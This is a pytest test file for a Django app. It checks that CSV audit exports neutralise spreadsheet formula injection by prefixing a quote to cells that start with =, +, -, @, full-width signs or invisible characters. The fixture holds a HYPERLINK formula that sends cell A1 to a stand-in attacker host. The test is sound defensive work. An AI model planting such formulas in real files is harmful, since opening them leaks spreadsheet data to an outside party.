"""Exports are safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from tests.factories import make_app

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click")'


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def formula_app(account, member):
    return make_app(account, name=FORMULA, user=member.user).app


def test_console_csv_export_neutralises_a_formula_app_name(client, member, formula_app, settings, tmp_path):
    from audit.exports import audit_export_write
    from audit.models import AuditExport

    settings.AUDIT_EXPORT_DIR = tmp_path
    client.force_login(member.user)
    client.post("/console/audit/export.csv")
    export = audit_export_write(AuditExport.objects.get().pk)
    response = client.get(f"/console/audit/exports/{export.pk}/download")
    rows = csv_rows(b"".join(response.streaming_content).decode())
    assert [row["resource_name"] for row in rows] == ["'" + FORMULA]
    assert not any(row["description"].startswith(("=", "+", "-", "@")) for row in rows)


def test_export_command_csv_neutralises_every_dangerous_first_character(formula_app):
    out = StringIO()
    call_command("audit_export", "--format", "csv", stdout=out)
    rows = csv_rows(out.getvalue())
    assert rows[0]["resource_name"] == "'" + FORMULA


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        # Found by attacking a running server: spreadsheets read full-width signs as formulas
        # too, and skip invisible characters before them.
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "\u200b=1+1",
        "\ufeff=1+1",
        " =1+1",
        "\u00a0=1+1",
    ],
)
def test_dangerous_cells_get_a_leading_quote(value):
    from console.csv_cells import csv_safe

    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Billing sync", "", "1-2", "a=b"])
def test_harmless_cells_are_unchanged(value):
    from console.csv_cells import csv_safe

    assert csv_safe(value) == value


def test_jsonl_export_keeps_the_name_as_written(formula_app):
    out = StringIO()
    call_command("audit_export", stdout=out)
    assert FORMULA.replace('"', '\\"') in out.getvalue()
